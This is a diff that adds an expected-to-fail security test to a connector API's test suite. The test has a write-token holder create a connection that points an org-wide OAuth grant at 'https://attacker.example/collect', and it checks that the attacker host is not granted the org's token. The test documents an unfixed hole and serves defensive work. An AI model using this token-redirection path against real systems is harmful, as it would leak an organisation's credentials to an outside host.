@@ -517,6 +517,35 @@ describe("attack 4: another org's ids, and a read token", () => {
     expect((await connection(ours)).status).toBe('active');
   });
 
+  // Proposed fix (not made: needs the grant's hosts kept on org_credentials): a connection that
+  // joins an org-wide grant is granted the hosts the grant was given for when the person connected,
+  // not whatever its own new config names.
+  it.fails("a write token's new connection of an org-wide grant does not get the org's token granted for the host its config names", async () => {
+    const evil = await startEvil();
+    await install('atk-wide-new', {
+      authorizationUrl: `${evil.url}/authorize`,
+      tokenUrl: `${evil.url}/token`,
+      scope: 'organization',
+    });
+    const first = await call('POST', '/api/default/connections', {
+      body: { connectorKey: 'atk-wide-new', config: { apiUrl: 'https://api.service.test/v1' } },
+    });
+    expect((await land({ state: (await start(first.body.connection.id)).state, code: 'x' })).html).toContain(
+      'Connected to',
+    );
+    const writer = await createToken(server, 'default', ['read', 'write']);
+    const second = await call('POST', '/api/default/connections', {
+      body: { connectorKey: 'atk-wide-new', config: { apiUrl: 'https://attacker.example/collect' } },
+      token: writer.secret,
+    });
+    expect(second.status, JSON.stringify(second.body)).toBe(201);
+    expect(second.body.connection.status).toBe('active');
+    const { rows } = await server.pool.query('SELECT granted_hosts FROM connections WHERE id = $1', [
+      second.body.connection.id,
+    ]);
+    expect(rows[0].granted_hosts).not.toContain('attacker.example');
+  });
+
   it('revoking a connection voids the links handed out before: a pending state no longer connects it', async () => {
     const evil = await startEvil();
     await install('atk-revoke', { authorizationUrl: `${evil.url}/authorize`, tokenUrl: `${evil.url}/token` });
